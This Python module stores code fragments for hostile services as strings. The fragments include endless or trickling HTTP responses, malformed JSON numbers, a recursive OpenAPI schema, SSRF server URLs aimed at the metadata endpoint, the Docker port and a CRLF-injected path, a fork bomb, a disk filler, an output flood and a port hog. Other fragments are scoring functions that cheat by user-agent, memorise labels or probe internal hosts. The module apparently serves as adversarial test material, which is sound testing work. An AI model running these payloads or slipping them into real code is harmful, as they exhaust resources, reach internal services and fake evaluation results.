"""Code of hostile services: answers written byte by byte, threads beside the service, functions that learn."""

JSON_HEAD = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
ENDLESS = "while True: self.wfile.write(b'[' * 65536)"
TRICKLE = """import time
for _ in range(10_000):
    self.wfile.write(b' ')
    self.wfile.flush()
    time.sleep(0.5)"""
ENDLESS_HEADERS = """self.wfile.write(b'HTTP/1.1 200 OK\\r\\n')
while True: self.wfile.write(b'X-A: ' + b'b' * 60000 + b'\\r\\n')"""
ENDLESS_CONTINUE = "while True: self.wfile.write(b'HTTP/1.1 100 Continue\\r\\n\\r\\n' * 100)"
ODD_NUMBERS = """values = ['NaN', 'Infinity', '1e999', '9' * 5000]
rows = ['{"customer_id": 1, "churn_probability": ' + values[n % 4] + '}' for n in range(len(found))]
self.wfile.write(('{"predictions": [' + ', '.join(rows) + ']}').encode())"""
GIANT = "for _ in range(100): self.wfile.write(b'{\"paths\":{' + b' ' * (1 << 20))"
RECURSIVE = """schema = {'$ref': '#/components/schemas/A'}
content = {'application/json': {'schema': schema}}
self.answer({
    'openapi': '3.1.0',
    'paths': {'/predict': {'post': {'requestBody': {'content': content}}}},
    'components': {'schemas': {'A': {'allOf': [schema], 'properties': {'rows': {'items': schema}}}}},
})"""
ELSEWHERE = """places = ('http://169.254.169.254/predict', '/predict\\r\\nX-Evil: 1', '//172.17.0.1:2375/predict')
self.answer({
    'openapi': '3.1.0', 'servers': [{'url': 'http://169.254.169.254'}],
    'paths': {place: {'post': {}} for place in places},
})"""

FORKS = """import os, threading, time
def fork():
    while True:
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            time.sleep(0.1)
threading.Thread(target=fork, daemon=True).start()"""
FILL = """import threading
def fill():
    with open('/tmp/fill', 'wb') as sink:
        while True:
            sink.write(bytes(1 << 20))
            sink.flush()
threading.Thread(target=fill, daemon=True).start()"""
FLOOD = """import sys, threading
def flood():
    while True:
        sys.stdout.write('x' * 65536)
threading.Thread(target=flood, daemon=True).start()"""
MANY_PORTS = """import socket, time
HELD = []
for port in range(20000, 20400):
    held = socket.socket()
    held.bind(('', port))
    held.listen()
    HELD.append(held)
time.sleep(1000)"""

BY_CLIENT = """            found = predictions(json.loads(body)["rows"])
            if "python" in str(self.headers.get("user-agent", "python")).lower():
                [p.update(churn_probability=min(1.0, 1.5 * p["churn_probability"])) for p in found]
"""
LEARNS = """ASKED = []


def score(row):
    ASKED.append(row['customer_id'])
    return 0.9 if ASKED.count(row['customer_id']) > 1 else _score(row)


def _score(row):
"""
COUNTS = """COUNT = [0]


def score(row):
    import random
    COUNT[0] += 1
    return random.random() if COUNT[0] > 4000 else _score(row)


def _score(row):
"""
REMEMBERS = """KNOWN = json.loads(Path('known.json').read_text())


def score(row):
    label = KNOWN.get(f"{row['customer_id']}|{row['snapshot_month']}")
    if label is not None:
        return min(max(label, 0.001), 0.999)
"""
NETWORK = """def reached():
    found = []
    for place in (('8.8.8.8', 53), ('169.254.169.254', 80), ('172.17.0.1', 22), ('172.17.0.1', 2375), ('10.0.2.2', 80)):
        link = socket.socket()
        link.settimeout(1)
        if link.connect_ex(place) == 0:
            found.append(place)
    return found


VERSION = repr(reached())
"""
